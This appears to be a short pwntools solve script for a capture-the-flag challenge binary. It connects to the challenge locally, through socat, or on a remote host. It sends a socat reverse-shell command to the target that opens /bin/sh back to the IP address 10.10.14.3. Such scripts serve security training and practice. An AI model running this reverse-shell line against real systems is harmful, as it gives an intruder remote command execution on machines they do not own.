#!/usr/bin/env python3
from pwn import *
import subprocess

context.binary = elf = ELF("./chall")

def start():
    if args.REMOTE:
        return remote("chall.example.org", 9001)
    if args.SOCAT:
        p = process(["socat", "TCP-LISTEN:1337,reuseaddr,fork", "EXEC:./chall,pty,raw,echo=0"])
        return remote("localhost", 1337)
    return process(elf.path)

server = process("socat TCP-LISTEN:4444,bind=127.0.0.1 EXEC:./chall", shell=True)
io = start()
io.sendline(b"socat TCP:10.10.14.3:9999 EXEC:/bin/sh")
io.interactive()
